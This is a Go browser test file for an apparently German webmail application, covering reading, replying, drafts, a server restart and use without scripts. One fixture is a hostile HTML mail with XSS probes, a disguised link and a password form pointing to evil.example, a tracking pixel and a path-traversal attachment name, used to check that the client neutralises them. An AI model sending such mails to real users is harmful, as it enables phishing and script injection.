package browser

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Screens that the tests know.
const (
	deskWidth, deskHeight   = 1280, 860
	phoneWidth, phoneHeight = 360, 780
)

const designed = `From: Landkreis <news@landkreis.example>
To: <ada.muster@stadt.example>
Subject: Neues aus dem Landkreis
Message-ID: <designed@landkreis.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<h2>Neues</h2><script>document.title="taken"; alert(1)</script><p onclick="alert(2)">Liebe Kolleginnen</p>
<a href="https://evil.example/">www.landkreis.example</a><img src="https://evil.example/p.gif" onerror="alert(3)">
<form action="https://evil.example/"><input name="password"><button>x</button></form>
<style>body{background:url(https://evil.example/b)} *{position:fixed}</style><iframe src="javascript:alert(4)"></iframe>
--b
Content-Type: image/png; name="plan.png"
Content-Disposition: attachment; filename="../../plan.png"
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
--b--
`

// The flow of one morning: what a clerk does whose Outlook shows nothing.
func TestAClerkWorksWithHerSheetOnADesk(t *testing.T) {
	c, b := found(t), Start(t)
	c.letter(ada, "Eva Stern <eva.stern@example.org>", "Bauantrag Lindenweg", "Guten Tag,\n\nwann ist die Grundstücksbegehung?\n\nEva Stern")
	c.letter(ada, "Max Moritz <max@example.org>", "Rechnung", "anbei.")
	c.mail(ada, designed)
	c.outage()
	b.Fresh(deskWidth, deskHeight, true)
	b.Open(c.page + "/")
	b.Check("the log-in")
	c.enrol(b, ada)
	b.Check("the list")
	if got := b.Text(".state"); !strings.Contains(got, "antwortet seit") || !strings.Contains(got, "kommt später zurück") {
		t.Errorf("the line on top says %q", got)
	}

	// Read and answer, with a file.
	b.Go("a.open:has-text('Bauantrag Lindenweg')")
	b.See("text=Grundstücksbegehung")
	b.Check("a mail")
	b.Go("a[data-key=r]")
	if got := b.Value("#to"); got != "Eva Stern <eva.stern@example.org>" {
		t.Errorf("the answer goes to %q", got)
	}
	file := filepath.Join(t.TempDir(), "Übersicht.txt")
	if err := os.WriteFile(file, []byte("alles im Plan\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	b.do(Order{Do: "type", At: "#text", Text: "Am Montag um neun. "})
	b.See("text=Entwurf gespeichert um")
	b.do(Order{Do: "attach", At: "#file", Text: file})
	b.See("text=Übersicht.txt")
	if got := b.Value("#text"); !strings.HasPrefix(got, "Am Montag um neun.") || !strings.Contains(got, "> wann ist die Grundstücksbegehung?") {
		t.Errorf("after a file was attached the text is %q", got)
	}
	b.Check("writing")
	b.Go("button[value=send]")
	b.See("text=Ihre Nachricht ist gesendet.")
	b.Check("the list after sending")
	if n := b.Count("nav.folders a:has-text('Entwürfe') .count"); n != 0 {
		t.Error("the draft of the sent mail is still there")
	}
	b.Go("nav.folders a:has-text('Gesendet')")
	b.Go("a.open:has-text('Re: Bauantrag Lindenweg')")
	b.See("text=Am Montag um neun.")
	b.See(".files >> text=Übersicht.txt")

	// A hostile mail: nothing of it runs, in the page or in the frame.
	b.Open(c.page + "/")
	b.Go("a.open:has-text('Neues aus dem Landkreis')")
	if got := b.do(Order{Do: "frame", At: "iframe", Text: "body"}).(string); !strings.Contains(got, "Liebe Kolleginnen") {
		t.Errorf("the frame shows %q", got)
	}
	b.Check("a hostile mail")
	b.Go("a:has-text('Ansehen')")
	b.See("img.picture")
	b.Check("a picture")

	// Find, move, undo.
	b.Fill("#q", "grundstück")
	b.Go("form.search button")
	b.See(".mails >> text=Bauantrag Lindenweg")
	b.Check("the search")
	b.Open(c.page + "/")
	b.Press("j")
	b.Press("x")
	b.Go("button[value=delete]")
	b.See("text=Eine Nachricht liegt im Papierkorb.")
	b.Go("button.undo")
	b.See("text=Zurückgeholt.")
	if n := b.Count("#mails .mail"); n != 3 {
		t.Errorf("%d mails in the list after undo, wanted 3", n)
	}
	b.Click("#mails .star")
	b.See("#mails .star.on")
	for _, page := range []string{"book", "settings", "absence", "folders", "compose", "search"} {
		b.Open(strings.TrimSuffix(b.URL(), b.URL()[strings.Index(b.URL(), "/f/"):]) + "/" + page)
		b.Check(page)
		b.Open(c.page + "/")
	}
	pagesBesides(c, b)
}

// pagesBesides looks at the pages that somebody meets seldom, and at those of mistakes.
func pagesBesides(c *city, b *Browser) {
	b.Open(c.page + "/setup")
	b.Check("setting up a program")
	b.Fill("#label", "Telefon")
	b.Go("main button.main")
	b.See("text=Posteingang (IMAP)")
	b.Check("a program that is set up")
	b.Open(c.page + "/account")
	b.Fill("#label", "Outlook")
	b.Go("button:has-text('Passwort erzeugen')")
	b.See("text=Posteingang (IMAP)")
	b.Check("a program's password")
	b.Open(c.page + "/enrol/password")
	b.See("text=2 Programme")
	b.Check("changing the password")
	b.Open(c.page + "/")
	b.Open(b.URL() + "/4711") // a bookmark from before links said which mailbox they meant
	b.See("text=Dieses Postfach wurde erneuert")
	b.Check("a list that an old bookmark led to")
	for _, page := range []string{"/nothing", "/m/4711/f/1", "/receipt?number=" + strings.Repeat("9", 20)} {
		b.Open(c.page + page)
		b.do(Order{Do: "errors"}) // the browser notes the 404
		b.Check("the answer to " + page)
	}
}

func TestADraftSurvivesAPowerCut(t *testing.T) {
	c, b := found(t), Start(t)
	b.Fresh(phoneWidth, phoneHeight, true)
	c.enrol(b, ada)
	b.Check("the empty list on a telephone")
	b.Go("a.compose")
	b.do(Order{Do: "type", At: "#to", Text: "beisp"})
	b.do(Order{Do: "exists", At: "#offers option[value^='Bea Beispiel <bea.beispiel@stadt.example>']"})
	b.Fill("#to", "eva.stern@example.org")
	b.Fill("#subject", "Halb fertig")
	b.do(Order{Do: "type", At: "#text", Text: "Dieser Satz soll bleiben."})
	b.See("text=Entwurf gespeichert um")
	b.Check("writing on a telephone")
	c.kill()
	c.start()
	// The page that is open goes on: she types, and it is saved again.
	b.do(Order{Do: "type", At: "#text", Text: " Und dieser."})
	b.do(Order{Do: "see", At: "text=Entwurf gespeichert um"})
	b.Go("button[value=save]")
	if got := b.Value("#text"); got != "Dieser Satz soll bleiben. Und dieser." {
		t.Errorf("after the power cut the draft is %q", got)
	}
	b.Open(c.page + "/")
	b.Click(".drawer summary")
	b.Go("nav.folders a:has-text('Entwürfe')")
	if n := b.Count(".mail"); n != 1 {
		t.Errorf("%d drafts, wanted 1", n)
	}
	b.Go("a.open:has-text('Halb fertig')")
	b.Go("button[value=send]")
	b.See("text=Ihre Nachricht ist gesendet.")
}

func TestEverythingWorksWithoutScripts(t *testing.T) {
	c, b := found(t), Start(t)
	c.letter(office, "Eva Stern <eva.stern@example.org>", "Termin im Bürgerbüro", "Guten Tag,\n\nist morgen offen?")
	b.Fresh(deskWidth, deskHeight, false)
	c.enrol(b, ada)
	b.Go("nav.folders .boxes a:has-text('Bürgerbüro')")
	b.Go("a.open:has-text('Termin im Bürgerbüro')")
	b.Go("button[value=take]")
	b.See("text=Die anderen sehen")
	b.Go("main a.main")
	b.Fill("#text", "Ja, ab acht.")
	b.Go("button[value=save]")
	b.See("text=Entwurf gespeichert um")
	b.Go("button[value=send]")
	b.See("text=Ihre Nachricht ist gesendet.")
	b.do(Order{Do: "click", At: "#mails input[name=uid]"})
	b.Go("button[value=delete]")
	b.Go("button.undo")
	b.See("text=Zurückgeholt.")
	b.Go("#mails .star")
	b.See("#mails .star.on")
}
